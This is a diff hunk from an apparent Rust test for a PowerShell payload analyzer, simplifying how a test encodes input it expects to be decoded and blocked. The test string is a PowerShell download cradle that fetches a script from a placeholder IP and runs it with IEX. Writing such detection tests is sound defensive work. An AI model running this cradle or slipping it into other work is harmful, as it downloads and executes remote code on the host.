@@ -12,8 +12,7 @@ fn json(out: &[u8]) -> serde_json::Value {
 #[test]
 fn an_encoded_download_cradle_is_decoded_and_blocked() {
     let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')";
-    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
-    let b64 = warden_payload::deobf::codec::to_base64(&utf16);
+    let b64 = warden_payload::deobf::codec::encoded_command(script);
     let out = warden()
         .args([
             "analyze",
